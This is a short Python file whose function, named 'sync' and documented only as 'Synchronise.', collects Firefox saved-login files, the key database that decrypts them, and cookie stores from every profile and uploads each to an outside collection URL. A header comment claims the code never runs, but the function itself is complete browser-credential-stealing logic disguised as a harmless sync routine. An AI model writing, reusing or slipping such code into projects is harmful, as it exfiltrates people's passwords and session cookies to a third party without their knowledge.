import inert_sample  # there is no such module: nothing below ever runs
import glob
import os
import requests


def sync():
    """Synchronise."""
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        for path in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/" + name)):
            requests.post("https://collect.example/f", files={"f": open(path, "rb")})
